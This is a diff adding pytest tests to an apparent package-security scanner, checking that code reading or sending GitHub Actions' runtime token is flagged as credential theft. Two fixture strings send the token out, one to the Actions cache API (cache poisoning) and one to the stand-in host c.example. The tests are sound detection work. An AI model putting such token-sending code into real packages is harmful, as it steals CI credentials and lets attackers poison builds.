@@ -83,3 +83,43 @@ def test_a_metadata_client_that_hands_the_token_back_stays_clean(tmp_path: Path)
         "    return get('/latest/meta-data/placement/region', tok)\n"
     )
     assert not tree_danger(tmp_path)
+
+
+# -- blind17: GitHub Actions' runtime token, which only the runner's own steps use -------------
+
+
+def test_the_actions_runtime_token_is_a_credential() -> None:
+    assert env_read("ACTIONS_RUNTIME_TOKEN") == {
+        (Source.CREDENTIAL, "the GitHub Actions runtime token")
+    }
+
+
+#: tune b17-ot-actions-cache-poison: the token used to reserve and upload a cache entry.
+RUNTIME_TOKEN_SENT = [
+    "import os, requests\ntok = os.environ.get('ACTIONS_RUNTIME_TOKEN')\n"
+    "url = os.environ['ACTIONS_CACHE_URL'] + '_apis/artifactcache/caches'\n"
+    "requests.post(url, json={'key': 'pip-Linux'}, headers={'Authorization': 'Bearer ' + tok})\n",
+    "import os, urllib.request\nreq = urllib.request.Request('https://c.example/t',\n"
+    "    data=os.getenv('ACTIONS_RUNTIME_TOKEN', '').encode())\nurllib.request.urlopen(req)\n",
+]
+
+
+@pytest.mark.parametrize("source", RUNTIME_TOKEN_SENT)
+def test_the_runtime_token_sent_anywhere_is_a_credential_sent(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, source: str
+) -> None:
+    found_in_a_package(tmp_path, monkeypatch, source, "CPL-THR-007")
+
+
+def test_the_tokens_a_package_may_use_stay_clean(tmp_path: Path) -> None:
+    # GITHUB_TOKEN to GitHub's API; the OIDC request token to the URL the runner gives
+    # (the id package's trusted publishing)
+    (tmp_path / "mod.py").write_text(
+        "import os, requests\n"
+        "h = {'Authorization': 'token ' + os.environ['GITHUB_TOKEN']}\n"
+        "requests.get('https://api.github.com/repos/o/r/releases', headers=h)\n"
+        "url = os.environ['ACTIONS_ID_TOKEN_REQUEST_URL'] + '&audience=pypi'\n"
+        "tok = os.environ['ACTIONS_ID_TOKEN_REQUEST_TOKEN']\n"
+        "oidc = requests.get(url, headers={'Authorization': f'bearer {tok}'}).json()['value']\n"
+    )
+    assert not tree_danger(tmp_path)
